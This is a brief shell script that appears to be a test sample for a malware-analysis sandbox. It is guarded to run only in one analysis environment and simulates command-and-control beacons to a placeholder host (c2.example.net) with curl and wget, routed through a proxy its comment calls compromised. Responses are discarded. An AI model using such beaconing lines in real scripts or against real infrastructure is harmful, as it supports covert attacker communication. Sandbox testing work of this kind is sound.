#!/bin/sh
# SPDX-License-Identifier: MIT
# Sends its beacons through an intermediate proxy (a compromised host's
# HTTP proxy), given to each download tool by its environment.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
env https_proxy=http://203.0.113.50:3128 http_proxy=http://203.0.113.50:3128 \
	curl -s -m 3 -o /dev/null https://c2.example.net/beacon 2>/dev/null
env http_proxy=http://203.0.113.50:3128 wget -q -T 3 -O /dev/null http://c2.example.net/cfg 2>/dev/null
exit 0
